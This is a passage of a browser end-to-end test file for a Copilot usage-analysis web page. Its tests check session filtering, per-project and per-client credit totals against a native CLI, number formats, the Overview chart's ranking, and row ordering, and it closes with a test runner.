    { id: '5ea4c000-0000-4000-8000-000000000004', events: [['2026-10-02T09:00:00.000Z', 'user.message', prompt('read the readme')]] },
  ]);
  const browser = await launch();
  try {
    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await pick(page, home);
    await showView(page, 'sessions');
    await page.fill('#session-filter', 'TOUCH');
    await page.waitForFunction(() => document.querySelector('#session-list .controls .muted').textContent === '1 of 2 sessions');
    assertEqual(await page.$$eval('#session-list tbody tr', (all) => all.map((tr) => tr.dataset.session)), ['5ea4c000-0000-4000-8000-000000000003'], 'the session whose second prompt says "touch"');
    await page.fill('#session-filter', 'nothing says this');
    await page.waitForFunction(() => document.querySelector('#session-list .controls .muted').textContent === '0 of 2 sessions');
    assertEqual(errors, [], 'no page errors');
    return '"touch" finds 1 of 2 sessions';
  } finally {
    await browser.close();
  }
});
phoneTests(test, { views: VIEWS, serverUrl: () => server.url, pick });

// ---- figures: usage by project, the Overview's projects, number formats, row order ------------

/** Thousands separators and one precision per column: counts, credits to the hundredth. */
const FIGURE_FORMATS = {
  count: /^\d{1,3}(,\d{3})*$/,
  credits: /^(~?\d{1,3}(,\d{3})*\.\d\d|—)$/,
};

/** Every cell of `rows` (text arrays) in the columns `columns` ({index: format}) has its column's format. */
/** A row count as the page says it: "1 row", "1,234 rows". */
const rowsText = (n) => `${fmtInt(n)} ${n === 1 ? 'row' : 'rows'}`;

function checkFormats(rows, columns, label) {
  for (const row of rows) {
    for (const [index, format] of Object.entries(columns)) {
      const cell = row[Number(index)];
      assert(FIGURE_FORMATS[format].test(cell), `${label}: "${cell}" is a ${format} figure (row ${row.join(' | ')})`);
    }
  }
}

/** The credits a native row adds to its project's credits used (the one money rule). */
const nativeCredits = (row) => (row.flags.includes('implausible_date') ? 0 : row.credits || 0);

/** Native rows' projects in the order they come, each once, with their credits added up. */
function projectsInOrder(rows) {
  const order = [];
  const credits = new Map();
  for (const row of rows) {
    if (!credits.has(row.project_path)) order.push(row.project_path);
    credits.set(row.project_path, (credits.get(row.project_path) || 0) + nativeCredits(row));
  }
  return order.map((project) => ({ project, credits: credits.get(project) }));
}

test('figures: the Usage view by project and by client over a period equals the native usage --by project and --by client, by credits; numbers have separators and one precision per column; the Overview ranks projects by credits and a bar opens their sessions', async () => {
  const expected = native(DEMO);
  const [since, until] = ['2026-11-01', '2026-11-30'];
  const cli = nativeUsage(DEMO, ['--by', 'project', '--since', since, '--until', until]);
  const cliProjects = projectsInOrder(cli.rows);
  assert(cliProjects.length > 2, `the demo has several projects in November: ${cliProjects.length}`);
  for (let i = 1; i < cliProjects.length; i++) {
    // Row credits are to the hundredth: a project's sum may be off by half a hundredth a row.
    assert(cliProjects[i].credits <= cliProjects[i - 1].credits + 0.005 * cli.rows.length, `the native projects come by credits: ${JSON.stringify(cliProjects)}`);
  }
  const browser = await launch();
  try {
    const origin = server.url.replace(/\/$/, '');
    const { page, net, errors } = await openPage(browser, `${origin}/?today=2026-11-30`, origin);
    await markLoaded(net);
    await page.click('#demo');
    assertEqual(await waitForState(page, ['done', 'error'], 300_000), 'done', 'the demo is analysed');

    // Usage by project over November.
    await showView(page, 'usage');
    await page.selectOption('#usage-by', 'project');
    await page.fill('#usage-since', since);
    await page.dispatchEvent('#usage-since', 'change');
    await page.fill('#usage-until', until);
    await page.dispatchEvent('#usage-until', 'change');
    await page.waitForFunction(([s, u]) => document.getElementById('usage-since').value === s && document.getElementById('usage-until').value === u, [since, until]);
    await page.waitForTimeout(500);
    const shown = await usageShown(page, 'Usage by project');
    const pageProjects = [];
    for (const row of shown.rows) if (pageProjects[pageProjects.length - 1] !== row[0]) pageProjects.push(row[0]);
    assertEqual(pageProjects, cliProjects.map(({ project }) => project || '(no project)'), 'the projects in the native order, by credits, each once');
    // The native JSON keeps the agents apart; the page adds them up: one row per project, model and kind.
    const kinds = new Set(cli.rows.map((r) => JSON.stringify([r.project_path, r.model, r.flags.filter((f) => f === 'partial' || f === 'recovered')])));
    assertEqual(shown.rows.length, kinds.size, 'one row per project, model and kind');
    for (const { project, credits } of cliProjects) {
      const rows = shown.rows.filter((r) => r[0] === (project || '(no project)'));
      // Credits are the second column after the project: [project, model, credits, requests, ...].
      const pageCredits = rows.reduce((sum, r) => sum + (r[2] === '—' ? 0 : Number(r[2].replace(/[~,]/g, ''))), 0);
      assert(Math.abs(pageCredits - credits) <= 0.01 * rows.length + 0.005, `${project}: ${pageCredits} credits on the page, ${credits} native`);
    }
    // One format per column: counts (requests to total), credits.
    const columns = { 2: 'credits', 3: 'count', 4: 'count', 5: 'count', 6: 'count', 7: 'count', 8: 'count', 9: 'count' };
    checkFormats(shown.rows, columns, 'usage by project');
    checkFormats(shown.totals, { 1: 'credits', 2: 'count', 8: 'count' }, 'usage totals');
    assert(shown.rows.some((r) => r[9].includes(',')), 'a token total in the thousands shows its separator');
    const headline = await page.textContent('#usage-credits-used');
    assert(/^Credits used: \d{1,3}(,\d{3})*\.\d\d \(≈ \$\d{1,3}(,\d{3})*\.\d\d\)/.test(headline), `the headline's figures: ${headline}`);
    await shot(page, 'figures-usage-by-project.png');

    // Usage by client (the program each session was run from) over the same days: each
    // client's credits as the native usage --by client adds them up.
    const byClient = new Map();
    for (const row of nativeUsage(DEMO, ['--by', 'client', '--since', since, '--until', until]).rows) {
      byClient.set(row.client || '(none named)', (byClient.get(row.client || '(none named)') || 0) + nativeCredits(row));
    }
    assert(byClient.has('github/cli'), `the demo's CLI sessions name their client: ${[...byClient.keys()]}`);
    await page.selectOption('#usage-by', 'client');
    const clientRows = (await usageShown(page, 'Usage by client')).rows;
    assertEqual([...new Set(clientRows.map((r) => r[0]))].sort(), [...byClient.keys()].sort(), 'the clients the native usage names');
    for (const [client, credits] of byClient) {
      const rows = clientRows.filter((r) => r[0] === client);
      const pageCredits = rows.reduce((sum, r) => sum + (r[2] === '—' ? 0 : Number(r[2].replace(/[~,]/g, ''))), 0);
      assert(Math.abs(pageCredits - credits) <= 0.01 * rows.length + 0.005, `${client}: ${pageCredits} credits on the page, ${credits} native`);
    }

    // The Sessions view: tokens as counts, credits to the hundredth.
    await showView(page, 'sessions');
    const sessionCells = await page.$$eval('#session-list tbody tr', (trs) => trs.map((tr) => [tr.querySelector('td:nth-child(10)').textContent, tr.querySelector('td.c-credits').textContent, tr.dataset.session]));
    checkFormats(sessionCells.filter(([tokens]) => tokens !== '—'), { 0: 'count' }, 'sessions tokens');
    checkFormats(sessionCells, { 1: 'credits' }, 'sessions credits');
    // "Estimated" is marked (`~`) on exactly the sessions some of whose credits the native rows estimate.
    const bySession = nativeUsage(DEMO, ['--by', 'session']).rows;
    const estimatedSessions = new Set(bySession.filter((r) => nativeCredits(r) >= 0.005 && r.credits_from !== 'recorded').map((r) => r.session_id));
    const marked = sessionCells.filter(([, credits]) => credits.startsWith('~')).map(([, , id]) => id);
    assertEqual(marked.sort(), sessionCells.map(([, , id]) => id).filter((id) => estimatedSessions.has(id)).sort(), 'the sessions marked ~ are those with estimated credits');
    // A transcript's header: the one money figure is credits, marked where estimated; tokens carry no dollars.
    const [, firstCredits, firstId] = sessionCells.find(([, credits]) => /[1-9]/.test(credits));
    await page.click(`#session-list tbody tr[data-session="${firstId}"] button.link`);
    await page.waitForSelector(`#transcript[data-loaded="${firstId}"]`);
    const facts = await page.$$eval('#transcript dl.facts dt', (dts) => Object.fromEntries(dts.map((dt) => [dt.textContent, dt.nextElementSibling.textContent])));
    assert(/^[\d,]+ tokens \(/.test(facts.usage), `the header's tokens, with no token-rate dollars: ${facts.usage}`);
    assert(facts['credits used'].startsWith(`${firstCredits} (≈ $`), `the header's credits are the Sessions column's (${firstCredits}): ${facts['credits used']}`);
    assert(/, (all as Copilot recorded them|all estimated at the published rates|\d\d?% estimated at the published rates)\)$/.test(facts['credits used']), `the header says the share estimated: ${facts['credits used']}`);
    await showView(page, 'sessions');

    // The Overview: the projects of all the data by credits used, as the native --by project ranks them.
    const allCli = projectsInOrder(nativeUsage(DEMO, ['--by', 'project']).rows).filter(({ credits }) => credits > 0);
    await showView(page, 'overview');
    await page.waitForFunction(() => window.Chart && window.Chart.getChart(document.querySelector('#chart-project')));
    const chart = await page.evaluate(() => {
      const canvas = document.querySelector('#chart-project');
      const drawn = window.Chart.getChart(canvas);
      return { projects: JSON.parse(canvas.dataset.projects), values: drawn.data.datasets[0].data, labels: drawn.data.labels };
    });
    assertEqual(chart.projects, allCli.slice(0, 20).map(({ project }) => project), "the Overview's project bars in the native order by credits");
    assertEqual(chart.values, [...chart.values].sort((a, b) => b - a), 'the bars rank by credits, the most first');
    const tile = await page.$eval('#view-overview .tile[data-metric="credits_used"]', (t) => [t.querySelector('.tile-value').textContent, t.querySelector('.tile-note').textContent]);
    checkFormats([tile], { 0: 'credits' }, 'the credits tile');
    assert(/^≈ \$\d{1,3}(,\d{3})*\.\d\d/.test(tile[1]), `the tile's dollars: ${tile[1]}`);
    // The share Copilot did not record, from the native headline's parts.
    const used = nativeUsage(DEMO, []).credits_used;
    assertEqual(tile[0].startsWith('~'), used.estimated > 0, `the tile is marked ~ when some credits are estimated: ${tile[0]}`);
    const share = Math.round((used.estimated / (used.recorded + used.estimated)) * 100);
    const shareText = used.estimated > 0 ? (used.recorded > 0 ? `${Math.min(99, Math.max(1, share))}% estimated` : 'all estimated') : 'all as Copilot recorded them';
    assert(tile[1].includes(shareText), `the tile says the share estimated (${shareText}): ${tile[1]}`);
    await page.waitForTimeout(200);
    await shot(page, 'figures-overview.png');
    // A click on the first bar opens the Sessions view filtered to that project. Where the bar
    // is, is read after the scroll and two frames: the responsive chart may still resize
    // (a click where the bar was before hit nothing in about one run of three).
    const barAt = await page.$eval('#chart-project', async (canvas) => {
      canvas.scrollIntoView({ block: 'center' });
      for (let frame = 0; frame < 2; frame++) await new Promise(requestAnimationFrame);
      const box = canvas.getBoundingClientRect();
      const bar = window.Chart.getChart(canvas).getDatasetMeta(0).data[0];
      return { x: box.x + (bar.x + bar.base) / 2, y: box.y + bar.y };
    });
    await page.mouse.click(barAt.x, barAt.y);
    const project = chart.projects[0];
    await page.waitForFunction((p) => !document.getElementById('view-sessions').hidden && document.getElementById('session-project')?.value === p, project);
    const listed = await page.$$eval('#session-list tbody tr', (trs) => trs.map((tr) => tr.dataset.session).sort());
    assertEqual(listed, expected.sessions.filter((s) => (s.remote ? `${s.remote}:${s.project_path}` : s.project_path) === project).map((s) => s.session_id).sort(), `the bar opens the sessions of ${project}`);
    await shot(page, 'figures-project-sessions.png');
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'demo', ['/demo/copilot-demo.zip']);
    return `${pageProjects.length} projects in November (first ${pageProjects[0]}); ${chart.projects.length} bars; ${listed.length} sessions of ${project}`;
  } finally {
    await browser.close();
  }
});

test('figures: partial and recovered rows sit with their day in the Usage view, in the native usage order', async () => {
  const fixture = path.join(ROOT, 'fixtures/hostile/cli-reasoning-above-output');
  const zip = zipDirectory(fixture, 'reasoning-home');
  const zipPath = path.join(TMP, 'reasoning.zip');
  writeFileSync(zipPath, zip);
  const cli = nativeUsage(zipPath, []);
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    await dropFiles(page, [{ name: 'reasoning.zip', bytes: zip }]);
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'analysed');
    await showView(page, 'usage');
    const shown = await usageShown(page, 'Usage by day');
    const days = shown.rows.map((r) => r[0]);
    assertEqual(days, [...days].sort(), "each day's rows together, the days in order");
    const partial = shown.rows.findIndex((r) => r[r.length - 1].includes('partial'));
    assert(partial > 0 && shown.rows[partial - 1][0] === shown.rows[partial][0], `the partial row follows its day's counted row: ${JSON.stringify(shown.rows.map((r) => [r[0], r[r.length - 1]]))}`);
    assert(partial < shown.rows.length - 1, 'and is not put after every counted row');
    assertEqual(shown.rows.map((r) => [r[0], r[1], r[r.length - 1]]), cli.rows.map((r) => [r.day, r.model, r.flags.join('')]), 'the native usage order');
    await shot(page, 'figures-usage-partial-with-day.png');
    assertEqual(errors, [], 'no page errors');
    return `${shown.rows.length} rows, the partial one at ${partial + 1}`;
  } finally {
    await browser.close();
  }
});

// ---- runner ----------------------------------------------------------------------------------------

const only = process.argv[2];
server = await startServer();
let failed = 0;
let ran = 0;
const started = Date.now();
for (const { name, fn } of tests) {
  if (only && !name.includes(only)) continue;
  ran++;
  const t0 = Date.now();
  try {
    const note = await fn();
    console.log(`ok   ${name} (${((Date.now() - t0) / 1000).toFixed(1)} s)${note ? `\n     ${note}` : ''}`);
  } catch (error) {
    failed++;
    console.log(`FAIL ${name} (${((Date.now() - t0) / 1000).toFixed(1)} s)\n     ${String(error.stack || error).split('\n').join('\n     ')}`);
  }
}
await server.close();
rmSync(TMP, { recursive: true, force: true });
console.log(`${failed ? 'FAILED' : 'passed'}: ${ran - failed} of ${ran} browser tests in ${((Date.now() - started) / 1000).toFixed(0)} s; screenshots in ${SHOTS}`);
process.exit(failed ? 1 : 0);
